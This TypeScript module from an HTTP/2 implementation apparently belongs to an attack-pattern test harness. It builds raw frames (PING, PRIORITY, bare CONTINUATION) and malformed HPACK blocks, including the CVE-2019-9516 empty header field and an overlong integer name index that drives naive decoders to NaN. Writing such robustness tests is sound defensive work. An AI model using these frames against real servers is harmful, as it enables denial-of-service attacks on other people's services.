/**
 * The frames attack patterns write, built on the stack's own frame header writer and HPACK encoder
 * (src/h2): here only what no well-behaved endpoint needs — frames of any type on any stream, PINGs,
 * PRIORITY churn, bare CONTINUATIONs, and HPACK blocks that abuse the dynamic table or integer encoding.
 */
import { Flag, FRAME_HEADER_BYTES, FrameType, writeFrameHeader } from '../h2/frames.ts';
import { encodeHeaderBlock, pushInteger } from '../h2/hpack.ts';

/** Any frame: header + payload. */
export function frame(type: number, flags: number, streamId: number, payload: Uint8Array = EMPTY): Buffer {
  const out = Buffer.allocUnsafe(FRAME_HEADER_BYTES + payload.length);
  writeFrameHeader(out, 0, payload.length, type, flags, streamId);
  out.set(payload, FRAME_HEADER_BYTES);
  return out;
}

const EMPTY = new Uint8Array(0);

/** §6.7: PING with an 8-octet payload that carries `n`, so replies can be told apart. */
export function pingFrame(n: number): Buffer {
  const payload = Buffer.alloc(8);
  payload.writeUInt32BE(n >>> 0, 4);
  return frame(FrameType.PING, 0, 0, payload);
}

/** §6.3: PRIORITY (deprecated by RFC 9113 but still legal; servers may ignore it). */
export function priorityFrame(streamId: number, dependsOn: number, exclusive: boolean, weight: number): Buffer {
  const payload = Buffer.allocUnsafe(5);
  payload.writeUInt32BE(((exclusive ? 0x80000000 : 0) | (dependsOn & 0x7fffffff)) >>> 0, 0);
  payload[4] = weight & 0xff;
  return frame(FrameType.PRIORITY, 0, streamId, payload);
}

export function headersFrame(streamId: number, fragment: Uint8Array, flags: { endStream: boolean; endHeaders: boolean }): Buffer {
  return frame(FrameType.HEADERS, (flags.endStream ? Flag.END_STREAM : 0) | (flags.endHeaders ? Flag.END_HEADERS : 0), streamId, fragment);
}

export function continuationFrame(streamId: number, fragment: Uint8Array, endHeaders: boolean): Buffer {
  return frame(FrameType.CONTINUATION, endHeaders ? Flag.END_HEADERS : 0, streamId, fragment);
}

export function dataFrame(streamId: number, payload: Uint8Array, endStream: boolean): Buffer {
  return frame(FrameType.DATA, endStream ? Flag.END_STREAM : 0, streamId, payload);
}

export interface RequestHead {
  method: string;
  authority: string;
  path: string;
  /** more fields, sent as given (no lower-casing: some patterns need malformed names) */
  fields?: readonly (readonly [string, string])[];
}

/** A request's header block (static table and literals, never touching the server's dynamic table). */
export function requestBlock(head: RequestHead): Buffer {
  return encodeHeaderBlock([[':method', head.method], [':scheme', 'http'], [':path', head.path], [':authority', head.authority], ...(head.fields ?? [])]);
}

/** §5.2 string literal without Huffman coding. */
function pushString(out: number[], s: string): void {
  pushInteger(out, 0x00, 7, s.length);
  for (let i = 0; i < s.length; i++) out.push(s.charCodeAt(i) & 0xff);
}

/** RFC 7541 §6.2.1: a literal field with a new name, added to the dynamic table (it becomes index 62). */
export function literalWithIndexing(name: string, value: string): Buffer {
  const out: number[] = [];
  pushInteger(out, 0x40, 6, 0);
  pushString(out, name);
  pushString(out, value);
  return Buffer.from(out);
}

/** RFC 7541 §6.1: an indexed field, one octet for indexes below 127. */
export function indexedField(index: number): Buffer {
  const out: number[] = [];
  pushInteger(out, 0x80, 7, index);
  return Buffer.from(out);
}

/** The first dynamic table index (RFC 7541 §2.3.3): the entry added last. */
export const FIRST_DYNAMIC_INDEX = 62;

/**
 * A literal field (without indexing, new name) with an empty name and an empty value: three octets that a
 * decoder must still account for — the CVE-2019-9516 field. `huffman` sets the H bit on both strings.
 */
export function emptyField(huffman: boolean): Buffer {
  const h = huffman ? 0x80 : 0x00;
  return Buffer.from([0x00, h, h]);
}

/**
 * A literal field with incremental indexing (RFC 7541 §6.2.1) whose name index (a §5.1 integer) runs on
 * for `continuationOctets` octets that carry no bits (0x80: continuation set, value 0) before a final
 * 0x01: the value is 63 + 2^(7·n), far past any index. A decoder that multiplies its way through
 * (0 × 2^1071 = 0 × Infinity = NaN in floating point) instead of refusing the integer computes with NaN,
 * finds no name, and inserts that into its table.
 */
export function overlongNameIndexField(continuationOctets: number): Buffer {
  const out: number[] = [0x40 | 0x3f]; // literal with incremental indexing, 6-bit name index all ones
  for (let i = 0; i < continuationOctets; i++) out.push(0x80);
  out.push(0x01);
  pushString(out, 'x');
  return Buffer.from(out);
}
